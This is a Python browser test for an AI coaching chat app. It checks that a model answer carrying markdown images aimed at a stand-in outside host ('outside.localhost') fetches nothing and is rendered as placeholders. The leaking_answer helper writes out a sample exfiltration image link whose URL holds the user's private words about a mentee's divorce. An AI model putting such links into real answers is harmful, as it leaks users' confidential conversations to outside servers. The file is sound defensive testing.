"""A language model's answer cannot make the page fetch from another host (issue 20, part 3: "a model answer
carrying one sent conversation text to another host").

The real app in Chromium, its chat backend a scripted OpenAI-compatible model on loopback whose answer carries
images that would send the conversation to an "outside" server (the payload families of
test_browser_outside_requests.py, plus a plain image whose URL holds the mentor's words). The outside server is
named `outside.localhost` (Chromium sends every `*.localhost` name to this machine): a host name, so the poisoned-line
guard, which holds back links to bare IP addresses, leaves the lines in and the renderer must deal with them.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
import test_browser_outside_requests as outside_tests
from browser import Served, copy_of_built, new_page, open_app, serve
from fake_openai import FakeOpenAI, ok
from playwright.sync_api import Browser, expect

from assistant.workspace import app as ui

pytestmark = pytest.mark.browser
pytest_plugins = ["browser_fixtures"]  # browser

QUESTION = "My mentee Dana is struggling after her divorce; how do I bring up her missed deadlines?"
PLACEHOLDER = "[image removed: external link]"


@pytest.fixture(scope="module")
def outside() -> Iterator[outside_tests.Outside]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(outside_tests, "OUTSIDE_HOST", "127.0.0.1")  # where Chromium sends outside.localhost
        server = outside_tests.Outside()
    server.base = server.base.replace("127.0.0.1", "outside.localhost")
    yield server
    server.close()


def leaking_answer(base: str) -> str:
    """An answer that cites its guidance and carries every payload, one per paragraph."""
    leak = f"![progress chart]({base}/leak.png?q=Dana+is+struggling+after+her+divorce)"
    payloads = "\n\n".join(outside_tests.payloads(base).values())
    return f"Start with one specific example of a missed deadline [1].\n\n{leak}\n\n{payloads}"


@pytest.fixture(scope="module")
def model(outside: outside_tests.Outside) -> Iterator[FakeOpenAI]:
    with FakeOpenAI(default=ok(leaking_answer(outside.base))) as fake:
        yield fake


@pytest.fixture(scope="module")
def llm_served(built_dir: Path, tmp_path_factory: pytest.TempPathFactory, model: FakeOpenAI) -> Iterator[Served]:
    rt = copy_of_built(
        built_dir,
        tmp_path_factory,
        "model-images",
        llm_backend="openai",
        openai_base_url=model.base_url,
        openai_api_key="test-key",
        llm_max_retries=0,
    )
    yield from serve(rt, ui.warm_up)


def test_a_model_answer_with_outside_images_fetches_nothing(
    browser: Browser, llm_served: Served, model: FakeOpenAI, outside: outside_tests.Outside
) -> None:
    page = new_page(browser)
    try:
        open_app(page, llm_served.url)
        outside_tests._ask(page, QUESTION)
        answer = page.locator('#coach-chat [data-testid="bot"]').last
        expect(answer).to_contain_text("Start with one specific example")
        outside_tests._settle(page)
        assert any(r.streamed for r in model.requests), "the answer came from the model, streamed"
        assert outside.paths == [], f"the chat fetched {outside.paths}"
        assert PLACEHOLDER in answer.inner_text(), "the renderer replaced the images (not only the policy)"
        assert page.locator("img[src*='outside.localhost']").count() == 0
    finally:
        page.context.close()
    stored = llm_served.rt.sessions.list_sessions()[0]
    turns = llm_served.rt.sessions.history(stored.id)
    assert turns[-1].backend == "openai" and "outside.localhost" in turns[-1].content, "the model's text is stored"
